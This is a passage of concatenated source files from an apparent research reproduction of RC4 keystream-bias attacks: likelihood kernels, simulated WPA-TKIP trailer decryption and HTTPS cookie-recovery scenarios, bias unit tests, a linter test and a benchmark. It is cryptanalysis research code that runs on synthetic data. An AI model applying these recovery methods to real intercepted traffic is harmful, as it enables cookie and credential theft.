    small.pop_back();
    const uint32_t l = large.back();
    probability_[s] = scaled[s];
    alias_[s] = l;
    scaled[l] -= 1.0 - scaled[s];
    if (scaled[l] < 1.0) {
      large.pop_back();
      small.push_back(l);
    }
  }
  for (uint32_t i : large) {
    probability_[i] = 1.0;
    alias_[i] = i;
  }
  for (uint32_t i : small) {
    probability_[i] = 1.0;  // numerical leftovers
    alias_[i] = i;
  }
}

}  // namespace rc4b
