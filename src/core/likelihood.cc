#include "src/core/likelihood.h"

#include <algorithm>
#include <cassert>
#include <cmath>

namespace rc4b {

void XorCorrelate256(const double* weights, const double* log_p, double* lambda) {
  for (size_t mu = 0; mu < 256; mu += 4) {
    double s0 = 0.0, s1 = 0.0, s2 = 0.0, s3 = 0.0;
    for (size_t c = 0; c < 256; ++c) {
      const double w = weights[c];
      if (w == 0.0) {
        continue;
      }
      const size_t base = c ^ mu;
      s0 += w * log_p[base];
      s1 += w * log_p[base ^ 1];
      s2 += w * log_p[base ^ 2];
      s3 += w * log_p[base ^ 3];
    }
    lambda[mu] += s0;
    lambda[mu + 1] += s1;
    lambda[mu + 2] += s2;
    lambda[mu + 3] += s3;
  }
}

std::vector<double> LogProbabilities(std::span<const double> probabilities) {
  std::vector<double> out(probabilities.size());
  for (size_t i = 0; i < probabilities.size(); ++i) {
    out[i] = SafeLog(probabilities[i]);
  }
  return out;
}

std::vector<double> SingleByteLogLikelihood(std::span<const uint64_t> counts,
                                            std::span<const double> log_p) {
  assert(counts.size() == 256 && log_p.size() == 256);
  double weights[256];
  for (size_t c = 0; c < 256; ++c) {
    weights[c] = static_cast<double>(counts[c]);
  }
  std::vector<double> lambda(256, 0.0);
  XorCorrelate256(weights, log_p.data(), lambda.data());
  return lambda;
}

std::vector<double> DoubleByteLogLikelihoodDense(std::span<const uint64_t> counts,
                                                 std::span<const double> log_p) {
  assert(counts.size() == 65536 && log_p.size() == 65536);
  // Convert the counts once; the kernel then reads double rows directly.
  std::vector<double> weights(65536);
  for (size_t i = 0; i < 65536; ++i) {
    weights[i] = static_cast<double>(counts[i]);
  }
  std::vector<double> lambda(65536, 0.0);
  for (size_t mu1 = 0; mu1 < 256; ++mu1) {
    double* lambda_row = lambda.data() + mu1 * 256;
    for (size_t c1 = 0; c1 < 256; ++c1) {
      // lambda[mu1][mu2] += sum_c2 counts[c1][c2] * log_p[c1 ^ mu1][c2 ^ mu2]:
      // one 2 KiB x 2 KiB blocked inner product per (mu1, c1) pair.
      XorCorrelate256(weights.data() + c1 * 256,
                      log_p.data() + (c1 ^ mu1) * 256, lambda_row);
    }
  }
  return lambda;
}

std::vector<double> DoubleByteLogLikelihoodSparse(std::span<const uint64_t> counts,
                                                  uint64_t total,
                                                  const SparseDigraphModel& model) {
  assert(counts.size() == 65536);
  const double log_u = SafeLog(model.unbiased_probability);
  // lambda_mu = total * log(u) + sum over biased keystream cells k of
  //   counts[k XOR mu] * (log p_k - log u),
  // since the induced keystream count for cell k under plaintext mu is the
  // ciphertext count at k XOR mu (componentwise on both bytes).
  std::vector<double> lambda(65536, static_cast<double>(total) * log_u);
  for (const auto& [cell, p] : model.biased_cells) {
    const double delta = SafeLog(p) - log_u;
    const size_t k1 = cell >> 8;
    const size_t k2 = cell & 0xff;
    for (size_t mu1 = 0; mu1 < 256; ++mu1) {
      const size_t c1 = k1 ^ mu1;
      double* lambda_row = lambda.data() + mu1 * 256;
      const uint64_t* count_row = counts.data() + c1 * 256;
      for (size_t mu2 = 0; mu2 < 256; ++mu2) {
        lambda_row[mu2] += delta * static_cast<double>(count_row[k2 ^ mu2]);
      }
    }
  }
  return lambda;
}

std::vector<double> AbsabLogLikelihood(std::span<const uint64_t> diff_counts,
                                       uint64_t total, uint16_t known, double alpha) {
  assert(diff_counts.size() == 65536);
  const double log_alpha = SafeLog(alpha);
  const double log_other = SafeLog((1.0 - alpha) / 65535.0);
  // Formula (22) in log form, with the uniform-cell part absorbed:
  //   log lambda_dhat = N_dhat * log(alpha) + (total - N_dhat) * log_other
  // and formula (24): the table over (mu1, mu2) reads the differential
  // dhat = (mu1, mu2) XOR known.
  std::vector<double> lambda(65536);
  const size_t known1 = known >> 8;
  const size_t known2 = known & 0xff;
  for (size_t mu1 = 0; mu1 < 256; ++mu1) {
    const size_t d1 = mu1 ^ known1;
    for (size_t mu2 = 0; mu2 < 256; ++mu2) {
      const size_t d2 = mu2 ^ known2;
      const double n = static_cast<double>(diff_counts[d1 * 256 + d2]);
      lambda[mu1 * 256 + mu2] =
          n * log_alpha + (static_cast<double>(total) - n) * log_other;
    }
  }
  return lambda;
}

void CombineInPlace(std::span<double> accumulator, std::span<const double> other) {
  assert(accumulator.size() == other.size());
  for (size_t i = 0; i < accumulator.size(); ++i) {
    accumulator[i] += other[i];
  }
}

size_t ArgMax(std::span<const double> table) {
  if (table.empty()) {
    return 0;
  }
  return static_cast<size_t>(
      std::max_element(table.begin(), table.end()) - table.begin());
}

}  // namespace rc4b
