#include "src/recovery/scenario.h"

#include <cassert>
#include <cstdio>
#include <utility>

#include "src/biases/dataset.h"
#include "src/core/likelihood.h"
#include "src/core/rank.h"
#include "src/core/synthetic.h"
#include "src/recovery/engine.h"
#include "src/recovery/likelihood_source.h"
#include "src/sim/cookie_sim.h"
#include "src/sim/runner.h"
#include "src/sim/tkip_sim.h"
#include "src/tls/cookie_attack.h"

namespace rc4b::recovery {

namespace {

// Tag of the attacker-model seed stream: models and trials draw from
// independent streams of the same base seed (src/sim/runner.h).
constexpr uint64_t kModelStream = 0x6d6f64656cULL;  // "model"

uint64_t OrDefault(uint64_t value, uint64_t fallback) {
  return value != 0 ? value : fallback;
}

class TkipTrailerScenario : public Scenario {
 public:
  TkipTrailerScenario(std::string name, std::string description,
                      TkipTrailerScenarioConfig config)
      : Scenario(std::move(name), std::move(description)),
        config_(std::move(config)) {}

  ScenarioOutcome Run(const ScenarioParams& params) const override {
    const Bytes msdu = config_.payload.empty()
                           ? sim::InjectedPacket()
                           : sim::InjectedPacket(config_.payload);
    TkipTscModel model(msdu.size() + 1, msdu.size() + kTkipTrailerSize);
    model.Generate(OrDefault(params.model_keys, config_.default_model_keys),
                   sim::TrialSeed(params.seed, kModelStream), params.workers);
    if (config_.target_bias_rms > 0.0) {
      const double raw_rms = model.RmsRelativeDeviation();
      if (raw_rms > config_.target_bias_rms) {
        model.ShrinkTowardUniform(config_.target_bias_rms / raw_rms);
      }
    }

    sim::TkipSimOptions options;
    options.checkpoints = {OrDefault(params.samples, config_.default_samples)};
    options.payload = config_.payload;
    options.candidate_budget =
        OrDefault(params.budget, config_.default_budget);
    options.trials = params.trials;
    options.workers = params.workers;
    options.seed = params.seed;
    options.oracle_model = config_.oracle;
    const auto aggregate = sim::RunTkipSimulations(model, options);

    ScenarioOutcome outcome;
    outcome.trials = aggregate.trials;
    outcome.budget_wins = aggregate.budget_wins[0];
    outcome.exact_wins = aggregate.two_wins[0];
    outcome.ranks = aggregate.icv_positions[0];
    return outcome;
  }

 private:
  TkipTrailerScenarioConfig config_;
};

class CookieScenario : public Scenario {
 public:
  CookieScenario(std::string name, std::string description,
                 CookieScenarioConfig config)
      : Scenario(std::move(name), std::move(description)),
        config_(std::move(config)) {}

  ScenarioOutcome Run(const ScenarioParams& params) const override {
    sim::CookieSimOptions options;
    options.cookie_length = config_.cookie_length;
    options.alphabet = config_.alphabet;
    options.alignment = config_.alignment;
    options.max_gap = config_.max_gap;
    options.attempt_budget = static_cast<double>(
        OrDefault(params.budget, config_.default_budget));
    options.trials = params.trials;
    options.workers = params.workers;
    options.seed = params.seed;
    const sim::CookieSimContext context(options);
    const auto aggregate = sim::RunCookieSimulations(
        context, OrDefault(params.samples, config_.default_samples));

    ScenarioOutcome outcome;
    outcome.trials = aggregate.trials;
    outcome.budget_wins = aggregate.budget_wins;
    // Top-two criterion from the trial-indexed ranks, matching the other
    // families (the aggregate's best_wins is the stricter top-1 Viterbi
    // count).
    for (const double rank : aggregate.ranks) {
      outcome.exact_wins += rank < 2.0 ? 1 : 0;
    }
    outcome.ranks = aggregate.ranks;
    return outcome;
  }

 private:
  CookieScenarioConfig config_;
};

class SingleByteScenario : public Scenario {
 public:
  SingleByteScenario(std::string name, std::string description,
                     SingleByteScenarioConfig config)
      : Scenario(std::move(name), std::move(description)), config_(config) {}

  ScenarioOutcome Run(const ScenarioParams& params) const override {
    const size_t length = config_.length;
    const size_t last = config_.first_position + length - 1;
    const uint64_t samples =
        OrDefault(params.samples, config_.default_samples);
    const uint64_t budget = OrDefault(params.budget, config_.default_budget);

    // Attacker model: per-position keystream distributions measured with the
    // sharded engine (worker-count invariant, docs/engine.md).
    DatasetOptions dataset;
    dataset.keys = OrDefault(params.model_keys, config_.default_model_keys);
    dataset.workers = params.workers;
    dataset.seed = sim::TrialSeed(params.seed, kModelStream);
    dataset.interleave = params.interleave;
    dataset.kernel = params.kernel;
    dataset.cache_dir = params.grid_cache;
    const SingleByteGrid grid = GenerateSingleByteDataset(last, dataset);

    std::vector<std::vector<double>> probs(length);
    std::vector<std::vector<double>> log_model(length);
    for (size_t r = 0; r < length; ++r) {
      probs[r].resize(256);
      for (size_t v = 0; v < 256; ++v) {
        probs[r][v] = grid.Probability(config_.first_position - 1 + r,
                                       static_cast<uint8_t>(v));
      }
      log_model[r] = LogProbabilities(probs[r]);
    }

    struct Trial {
      double rank = 0.0;
      bool recovered = false;  // engine accepted the truth within the budget
      bool exact = false;      // truth within the top two candidates
    };
    const auto per_trial = sim::RunTrials<Trial>(
        sim::TrialRunnerOptions{params.trials, params.workers, params.seed},
        [&](uint64_t, Xoshiro256& rng) {
          Bytes truth(length);
          for (auto& b : truth) {
            b = rng.Byte();
          }
          // Ciphertext byte counts from the exact Poissonized law of the
          // perfect-model victim: counts[c] ~ Poisson(N * p[c ^ truth]).
          std::vector<std::vector<uint64_t>> counts(length);
          std::vector<double> shifted(256);
          for (size_t r = 0; r < length; ++r) {
            for (size_t c = 0; c < 256; ++c) {
              shifted[c] = probs[r][c ^ truth[r]];
            }
            counts[r] = SampleCounts(shifted, samples, rng);
          }
          SingleByteModelSource source(std::move(counts), log_model);
          const auto tables = source.Tables();

          Trial trial;
          trial.rank = IndependentRank(tables, truth).estimate();
          trial.exact = trial.rank < 2.0;
          RecoveryOptions options;
          options.max_candidates = budget;
          options.truth = truth;
          const RecoveryEngine engine(std::move(options));
          // Truth oracle standing in for a checksum/server verifier: the
          // criterion is whether the traversal *reaches* the truth in budget.
          const auto result = engine.RecoverSingle(
              tables, [&](const Bytes& candidate) { return candidate == truth; });
          trial.recovered = result.found && result.correct;
          return trial;
        });

    ScenarioOutcome outcome;
    outcome.trials = params.trials;
    for (const Trial& trial : per_trial) {
      outcome.budget_wins += trial.recovered ? 1 : 0;
      outcome.exact_wins += trial.exact ? 1 : 0;
      outcome.ranks.push_back(trial.rank);
    }
    return outcome;
  }

 private:
  SingleByteScenarioConfig config_;
};

}  // namespace

void ScenarioRegistry::Register(std::unique_ptr<Scenario> scenario) {
  assert(scenario != nullptr);
  assert(Find(scenario->name()) == nullptr);
  scenarios_.push_back(std::move(scenario));
}

const Scenario* ScenarioRegistry::Find(std::string_view name) const {
  for (const auto& scenario : scenarios_) {
    if (scenario->name() == name) {
      return scenario.get();
    }
  }
  return nullptr;
}

std::vector<const Scenario*> ScenarioRegistry::List() const {
  std::vector<const Scenario*> out;
  out.reserve(scenarios_.size());
  for (const auto& scenario : scenarios_) {
    out.push_back(scenario.get());
  }
  return out;
}

const ScenarioRegistry& ScenarioRegistry::Builtin() {
  static const ScenarioRegistry* const registry = [] {
    auto* r = new ScenarioRegistry();
    r->Register(MakeTkipTrailerScenario(
        "tkip-trailer",
        "Sect. 5 WPA-TKIP MIC+ICV decryption of the injected 7-byte-payload "
        "packet (perfect-model victim)",
        TkipTrailerScenarioConfig{}));
    TkipTrailerScenarioConfig long16;
    long16.payload = FromString("sixteen bytes!!!");
    r->Register(MakeTkipTrailerScenario(
        "tkip-trailer-long16",
        "TKIP trailer variant: 16-byte payload shifts the MIC+ICV to deeper "
        "keystream positions",
        std::move(long16)));
    r->Register(MakeCookieScenario(
        "cookie-base64-16",
        "Sect. 6 HTTPS secure-cookie brute force: 16-char base64-style "
        "cookie, ABSAB gaps up to 128 (Fig. 10 operating point)",
        CookieScenarioConfig{}));
    CookieScenarioConfig hex8;
    hex8.cookie_length = 8;
    hex8.alphabet = CookieAlphabetHex();
    hex8.max_gap = 32;
    hex8.default_budget = uint64_t{1} << 17;
    r->Register(MakeCookieScenario(
        "cookie-hex-8-gap32",
        "cookie variant: 8-char hex token with a reduced 32-gap ABSAB "
        "budget",
        std::move(hex8)));
    r->Register(MakeSingleByteScenario(
        "singlebyte-beyond256",
        "single-byte recovery past keystream position 256 from "
        "engine-measured per-position distributions (Sect. 3.3.3 biases)",
        SingleByteScenarioConfig{}));
    return r;
  }();
  return *registry;
}

std::unique_ptr<Scenario> MakeTkipTrailerScenario(
    std::string name, std::string description,
    TkipTrailerScenarioConfig config) {
  return std::make_unique<TkipTrailerScenario>(
      std::move(name), std::move(description), std::move(config));
}

std::unique_ptr<Scenario> MakeCookieScenario(std::string name,
                                             std::string description,
                                             CookieScenarioConfig config) {
  return std::make_unique<CookieScenario>(
      std::move(name), std::move(description), std::move(config));
}

std::unique_ptr<Scenario> MakeSingleByteScenario(
    std::string name, std::string description,
    SingleByteScenarioConfig config) {
  return std::make_unique<SingleByteScenario>(std::move(name),
                                              std::move(description), config);
}

}  // namespace rc4b::recovery
