#!/usr/bin/env python3
"""Self-test for lint_invariants.py: seeds one file per violation class and
asserts the linter flags it with the right rule tag, that the
// lint:allow(<rule>) escape hatch suppresses exactly that rule, and that the
real linted directories are currently clean."""

import os
import subprocess
import sys
import tempfile
import unittest

TOOLS_DIR = os.path.dirname(os.path.abspath(__file__))
LINTER = os.path.join(TOOLS_DIR, "lint_invariants.py")

# One representative source line per rule. Each must trip exactly its rule.
VIOLATIONS = {
    "rand": "int v = rand() % 256;\n",
    "srand": "srand(42);\n",
    "time": "uint64_t seed = time(nullptr);\n",
    "wall-clock":
        "auto stamp = std::chrono::system_clock::now();\n",
    "random-device": "std::random_device device;\n",
    "unseeded-rng": "std::mt19937 generator;\n",
    "unordered-iteration":
        "std::unordered_map<int, int> hist;\n"
        "for (const auto& entry : hist) counts.push_back(entry.second);\n",
}


def run_linter(*paths):
    return subprocess.run(
        [sys.executable, LINTER, *paths],
        capture_output=True, text=True, check=False)


class LintInvariantsTest(unittest.TestCase):
    def lint_source(self, source):
        with tempfile.TemporaryDirectory() as tmp:
            path = os.path.join(tmp, "probe.cc")
            with open(path, "w", encoding="utf-8") as handle:
                handle.write(source)
            return run_linter(path)

    def test_each_violation_class_is_caught(self):
        for rule, source in VIOLATIONS.items():
            with self.subTest(rule=rule):
                result = self.lint_source(source)
                self.assertEqual(result.returncode, 1, result.stdout)
                self.assertIn(f"[{rule}]", result.stdout)

    def test_allow_comment_on_same_line_suppresses(self):
        for rule, source in VIOLATIONS.items():
            with self.subTest(rule=rule):
                lines = source.splitlines(keepends=True)
                lines[-1] = (lines[-1].rstrip("\n") +
                             f"  // lint:allow({rule}) test exemption\n")
                result = self.lint_source("".join(lines))
                self.assertEqual(result.returncode, 0,
                                 result.stdout + result.stderr)

    def test_allow_comment_on_previous_line_suppresses(self):
        source = ("// lint:allow(rand) bench-only jitter\n"
                  "int v = rand() % 8;\n")
        result = self.lint_source(source)
        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)

    def test_allow_of_other_rule_does_not_suppress(self):
        source = "int v = rand();  // lint:allow(time)\n"
        result = self.lint_source(source)
        self.assertEqual(result.returncode, 1, result.stdout)
        self.assertIn("[rand]", result.stdout)

    def test_mentions_in_comments_and_strings_are_ignored(self):
        source = ("// rand() and time() are banned here\n"
                  "const char* kMessage = \"std::random_device is banned\";\n"
                  "int operand = 3;  // 'rand' inside an identifier\n")
        result = self.lint_source(source)
        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)

    def test_identifiers_containing_rule_names_pass(self):
        source = ("uint64_t strand(int x) { return x; }\n"
                  "double runtime(double x) { return x; }\n"
                  "int v = strand(2) + rc4b::NextTime(3);\n")
        result = self.lint_source(source)
        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)

    def test_steady_clock_is_allowed(self):
        source = "auto t0 = std::chrono::steady_clock::now();\n"
        result = self.lint_source(source)
        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)

    def test_seeded_rng_is_allowed(self):
        source = "std::mt19937 generator(options.seed);\n"
        result = self.lint_source(source)
        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)

    def test_unordered_lookup_without_iteration_is_allowed(self):
        source = ("std::unordered_map<int, int> cache;\n"
                  "int hit = cache.count(7);\n")
        result = self.lint_source(source)
        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)

    def test_repo_default_directories_are_clean(self):
        result = run_linter()
        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)
        self.assertIn("clean", result.stdout)


if __name__ == "__main__":
    unittest.main()
