// Type-erased RC4 lane kernel: W independent RC4 streams advanced in
// lockstep behind one virtual interface, so the engine can swap generation
// strategies (scalar round-robin, SSSE3/AVX2/NEON transposed lanes) at
// runtime without changing a single consumer.
//
// The contract is exactly Rc4MultiStream's (src/rc4/rc4_multi.h): after
// Init() with W keys, lane m's byte sequence is bit-identical to a scalar
// Rc4 over key m — a kernel only reorders the schedule, never the per-key
// math. tests/rc4/kernel_sweep_test.cc pins every registered kernel against
// the scalar oracle; a kernel that cannot keep this promise must not be
// registered (the autotuner additionally re-verifies before trusting any
// timing, src/rc4/autotune.h).
#ifndef SRC_RC4_KERNEL_H_
#define SRC_RC4_KERNEL_H_

#include <cstdint>
#include <span>

namespace rc4b {

class Rc4LaneKernel {
 public:
  virtual ~Rc4LaneKernel() = default;

  // Lanes advanced per lockstep group; fixed for the kernel's lifetime.
  virtual size_t Width() const = 0;

  // Starts a new group: runs Width() KSAs over `keys`, which holds the keys
  // back to back, each exactly `key_size` (1..256) bytes. Resets all PRGA
  // state; a kernel instance is reused across groups.
  virtual void Init(std::span<const uint8_t> keys, size_t key_size) = 0;

  // Discards `n` keystream bytes from every lane (RC4-drop[n] / engine drop).
  virtual void Skip(uint64_t n) = 0;

  // Generates `length` keystream bytes per lane: lane m's byte t is written
  // to out[m * stride + t] (stride >= length), i.e. Width() rows of a
  // row-major batch buffer when stride equals the row length. State carries
  // across calls (split generation), exactly like Rc4MultiStream.
  virtual void Keystream(uint8_t* out, size_t length, size_t stride) = 0;
};

}  // namespace rc4b

#endif  // SRC_RC4_KERNEL_H_
