// Tiny command-line flag parser for example binaries and benchmark harnesses.
// Supports --name=value and --name value forms plus --help text generation.
#ifndef SRC_COMMON_FLAGS_H_
#define SRC_COMMON_FLAGS_H_

#include <cstdint>
#include <map>
#include <string>
#include <vector>

namespace rc4b {

class FlagSet {
 public:
  explicit FlagSet(std::string program_description)
      : description_(std::move(program_description)) {}

  // Registers a flag with a default. Returns *this for chaining.
  FlagSet& Define(const std::string& name, const std::string& default_value,
                  const std::string& help);

  // Parses argv. On "--help" prints usage and returns false; the caller should
  // exit. Unknown flags abort with a message.
  bool Parse(int argc, char** argv);

  std::string GetString(const std::string& name) const;
  int64_t GetInt(const std::string& name) const;
  uint64_t GetUint(const std::string& name) const;
  double GetDouble(const std::string& name) const;
  bool GetBool(const std::string& name) const;

 private:
  struct Flag {
    std::string value;
    std::string help;
  };

  void PrintUsage() const;

  std::string description_;
  std::map<std::string, Flag> flags_;
};

}  // namespace rc4b

#endif  // SRC_COMMON_FLAGS_H_
