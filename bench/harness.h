// Shared helpers for the experiment benchmarks (one binary per paper
// table/figure; see DESIGN.md's experiment index and EXPERIMENTS.md for
// recorded results). These harnesses print self-describing tables to stdout;
// scale knobs default to laptop-friendly values and every binary accepts
// --keys / --sims style flags to approach paper-scale fidelity.
#ifndef BENCH_HARNESS_H_
#define BENCH_HARNESS_H_

#include <cmath>
#include <cstdio>
#include <string>

namespace rc4b::bench {

inline void PrintHeader(const std::string& experiment, const std::string& paper_ref,
                        const std::string& note) {
  std::printf("==============================================================\n");
  std::printf("%s\n", experiment.c_str());
  std::printf("paper reference : %s\n", paper_ref.c_str());
  if (!note.empty()) {
    std::printf("%s\n", note.c_str());
  }
  std::printf("==============================================================\n");
}

// Significance annotation for a measured vs. expected deviation.
inline const char* Stars(double z) {
  const double az = std::fabs(z);
  if (az >= 5.0) {
    return "*****";
  }
  if (az >= 4.0) {
    return "****";
  }
  if (az >= 3.0) {
    return "***";
  }
  if (az >= 2.0) {
    return "**";
  }
  if (az >= 1.0) {
    return "*";
  }
  return "";
}

}  // namespace rc4b::bench

#endif  // BENCH_HARNESS_H_
