#include "src/biases/fluhrer_mcgrew.h"

#include <cmath>
#include <map>

#include <gtest/gtest.h>

namespace rc4b {
namespace {

constexpr uint64_t kLongTerm = 1 << 20;

std::map<std::pair<int, int>, double> BiasMap(uint8_t i, uint64_t r) {
  std::map<std::pair<int, int>, double> out;
  for (const FmDigraph& d : FmDigraphsAt(i, r)) {
    out[{d.v1, d.v2}] += d.relative_bias;
  }
  return out;
}

TEST(FmTest, LongTermGenericCounterHasExpectedCells) {
  // i = 5: generic interior counter; expect the 8 classic digraphs.
  const auto biases = BiasMap(5, kLongTerm);
  EXPECT_DOUBLE_EQ(biases.at({0, 0}), 0x1.0p-8);
  EXPECT_DOUBLE_EQ(biases.at({0, 1}), 0x1.0p-8);
  EXPECT_DOUBLE_EQ(biases.at({0, 6}), -0x1.0p-8);     // (0, i+1)
  EXPECT_DOUBLE_EQ(biases.at({6, 255}), 0x1.0p-8);    // (i+1, 255)
  EXPECT_DOUBLE_EQ(biases.at({255, 6}), 0x1.0p-8);    // (255, i+1)
  EXPECT_DOUBLE_EQ(biases.at({255, 7}), 0x1.0p-8);    // (255, i+2)
  EXPECT_DOUBLE_EQ(biases.at({255, 255}), -0x1.0p-8);
  EXPECT_EQ(biases.count({129, 129}), 0u);
}

TEST(FmTest, CounterOneDoublesZeroZero) {
  const auto biases = BiasMap(1, kLongTerm);
  EXPECT_DOUBLE_EQ(biases.at({0, 0}), 0x1.0p-7);
  // (0,1) requires i != 0,1.
  EXPECT_EQ(biases.count({0, 1}), 0u);
}

TEST(FmTest, Counter255SpecialCases) {
  // Table 1: (0,0) requires i != 255; (0, i+1) requires i != 255 as well, so
  // the (0,0) cell is unbiased exactly at i = 255.
  const auto biases = BiasMap(255, kLongTerm);
  EXPECT_EQ(biases.count({0, 0}), 0u);
  EXPECT_DOUBLE_EQ(biases.at({255, 1}), 0x1.0p-8);
  EXPECT_DOUBLE_EQ(biases.at({0, 255}), 0x1.0p-8);  // (i+1, 255) = (0, 255)
}

TEST(FmTest, Counter254SpecialCases) {
  const auto biases = BiasMap(254, kLongTerm);
  EXPECT_DOUBLE_EQ(biases.at({255, 0}), 0x1.0p-8);
  // (i+1, 255) and (255, 255) are excluded at i = 254.
  EXPECT_EQ(biases.count({255, 255}), 0u);
}

TEST(FmTest, Counter2Has129129) {
  const auto biases = BiasMap(2, kLongTerm);
  EXPECT_DOUBLE_EQ(biases.at({129, 129}), 0x1.0p-8);
}

TEST(FmTest, ShortTermExceptionsAtInitialPositions) {
  // r = 1 drops (i+1, 255); r = 2 drops (129,129) and (255, i+2);
  // r = 5 drops (255,255). These are the Table 1 conditions on r.
  const auto at_r1 = BiasMap(1, 1);
  EXPECT_EQ(at_r1.count({2, 255}), 0u);
  const auto at_r2 = BiasMap(2, 2);
  EXPECT_EQ(at_r2.count({129, 129}), 0u);
  EXPECT_EQ(at_r2.count({255, 4}), 0u);
  const auto at_r5 = BiasMap(5, 5);
  EXPECT_EQ(at_r5.count({255, 255}), 0u);
  // And they are present in the long-term regime at the same counters.
  EXPECT_EQ(BiasMap(1, kLongTerm).count({2, 255}), 1u);
  EXPECT_EQ(BiasMap(5, kLongTerm).count({255, 255}), 1u);
}

TEST(FmTest, TableNormalized) {
  for (int i : {0, 1, 2, 5, 100, 254, 255}) {
    const auto table = FmDigraphTable(static_cast<uint8_t>(i), kLongTerm);
    double sum = 0.0;
    for (double p : table) {
      sum += p;
    }
    EXPECT_NEAR(sum, 1.0, 1e-12) << "i=" << i;
  }
}

TEST(FmTest, TableMatchesRelativeBiases) {
  const auto table = FmDigraphTable(5, kLongTerm);
  const double u = table[1 * 256 + 0];  // unbiased cell
  EXPECT_NEAR(table[0 * 256 + 0] / u, 1.0 + 0x1.0p-8, 1e-9);
  EXPECT_NEAR(table[255 * 256 + 255] / u, 1.0 - 0x1.0p-8, 1e-9);
}

TEST(FmTest, SparseModelConsistentWithDenseTable) {
  for (int i : {0, 1, 37, 254, 255}) {
    const auto table = FmDigraphTable(static_cast<uint8_t>(i), kLongTerm);
    const auto sparse = FmSparseModel(static_cast<uint8_t>(i), kLongTerm);
    // Reconstruct the dense table from the sparse model.
    std::vector<double> rebuilt(65536, sparse.unbiased_probability);
    for (const auto& [cell, p] : sparse.biased_cells) {
      rebuilt[cell] = p;
    }
    for (size_t cell = 0; cell < 65536; ++cell) {
      ASSERT_NEAR(rebuilt[cell], table[cell], 1e-15) << "i=" << i << " cell=" << cell;
    }
    EXPECT_LE(sparse.biased_cells.size(), 9u);
    EXPECT_GE(sparse.biased_cells.size(), 4u);
  }
}

TEST(FmTest, PrgaCounterMapping) {
  EXPECT_EQ(PrgaCounterAtPosition(1), 1);
  EXPECT_EQ(PrgaCounterAtPosition(255), 255);
  EXPECT_EQ(PrgaCounterAtPosition(256), 0);
  EXPECT_EQ(PrgaCounterAtPosition(257), 1);
}

}  // namespace
}  // namespace rc4b
