// Fig. 7 — average success rate of decrypting two unknown bytes with
// (1) a single ABSAB estimate, (2) the Fluhrer-McGrew double-byte
// likelihood, and (3) FM combined with 258 ABSAB estimates (gaps 0..128,
// both directions), as a function of the number of ciphertexts.
//
// Ciphertext statistics are sampled from their exact Poissonized law
// (src/core/synthetic.h) so the paper's x-axis range 2^27..2^39 runs in
// seconds; the samplers are validated against real RC4 in the test suite.
// Trials run on the src/sim/ runner: per-checkpoint counts are bit-exact
// for any --workers value.
#include <cstdio>
#include <vector>

#include "bench/harness.h"
#include "src/biases/fluhrer_mcgrew.h"
#include "src/biases/mantin.h"
#include "src/common/flags.h"
#include "src/core/likelihood.h"
#include "src/core/synthetic.h"
#include "src/sim/runner.h"

namespace rc4b {
namespace {

struct Fig7Trial {
  bool absab_win = false;
  bool fm_win = false;
  bool combined_win = false;
};

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "sims",
                            .count_default = "128",
                            .count_help = "simulations per point (paper: 2048)",
                            .seed_default = "10"};
  FlagSet flags("Fig. 7: two-byte recovery, ABSAB vs FM vs combined");
  DefineScaleFlags(flags, scale)
      .Define("min-log2", "27", "log2 of smallest ciphertext count")
      .Define("max-log2", "39", "log2 of largest ciphertext count")
      .Define("counter", "17", "PRGA counter i of the target digraph");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const auto [sims, workers, seed, interleave, kernel] = GetScaleFlags(flags, scale);
  (void)interleave;  // no keystream-engine stage in this sim-only bench
  (void)kernel;
  const int min_log2 = static_cast<int>(flags.GetInt("min-log2"));
  const int max_log2 = static_cast<int>(flags.GetInt("max-log2"));
  const uint8_t counter = static_cast<uint8_t>(flags.GetUint("counter"));

  bench::PrintHeader(
      "bench_fig7_recovery_rate",
      "Fig. 7 (success rate of decrypting two bytes vs #ciphertexts)",
      "expected shape: combined >> FM-only >> single-ABSAB; combined nears "
      "100% around 2^34 ciphertexts");

  const auto fm_table = FmDigraphTable(counter, 1 << 20);
  const auto fm_model = FmSparseModel(counter, 1 << 20);

  // 258 ABSAB estimates: gaps 0..128 on both sides of the unknown pair.
  std::vector<double> all_alphas;
  for (uint64_t g = 0; g <= 128; ++g) {
    all_alphas.push_back(AbsabAlpha(g));
    all_alphas.push_back(AbsabAlpha(g));
  }
  const std::vector<double> one_alpha = {AbsabAlpha(0)};

  std::printf("%-10s %12s %12s %12s\n", "log2(|C|)", "ABSAB-only", "FM-only",
              "combined");
  for (int log2_n = min_log2; log2_n <= max_log2; ++log2_n) {
    const uint64_t trials = uint64_t{1} << log2_n;
    // Each checkpoint gets its own seed stream derived from (seed, log2_n).
    const auto results = sim::RunTrials<Fig7Trial>(
        sim::TrialRunnerOptions{
            sims, workers, sim::TrialSeed(seed, static_cast<uint64_t>(log2_n))},
        [&](uint64_t, Xoshiro256& rng) {
          const uint8_t p1 = rng.Byte();
          const uint8_t p2 = rng.Byte();
          const size_t truth = static_cast<size_t>(p1) * 256 + p2;

          // FM estimate.
          const auto counts =
              SampleCiphertextPairCounts(fm_table, p1, p2, trials, rng);
          auto fm_lambda = DoubleByteLogLikelihoodSparse(counts, trials, fm_model);

          // ABSAB estimates (known plaintext folded to zero, WLOG).
          const auto absab_single = SampleAbsabScoreTable(
              one_alpha, trials, static_cast<uint16_t>(truth), rng);
          const auto absab_all = SampleAbsabScoreTable(
              all_alphas, trials, static_cast<uint16_t>(truth), rng);

          Fig7Trial result;
          result.absab_win = ArgMax(absab_single) == truth;
          result.fm_win = ArgMax(fm_lambda) == truth;
          CombineInPlace(fm_lambda, absab_all);  // formula (25)
          result.combined_win = ArgMax(fm_lambda) == truth;
          return result;
        });

    uint64_t absab_wins = 0, fm_wins = 0, combined_wins = 0;
    for (const Fig7Trial& result : results) {
      absab_wins += result.absab_win ? 1 : 0;
      fm_wins += result.fm_win ? 1 : 0;
      combined_wins += result.combined_win ? 1 : 0;
    }
    std::printf("%-10d %11.1f%% %11.1f%% %11.1f%%\n", log2_n,
                100.0 * static_cast<double>(absab_wins) / static_cast<double>(sims),
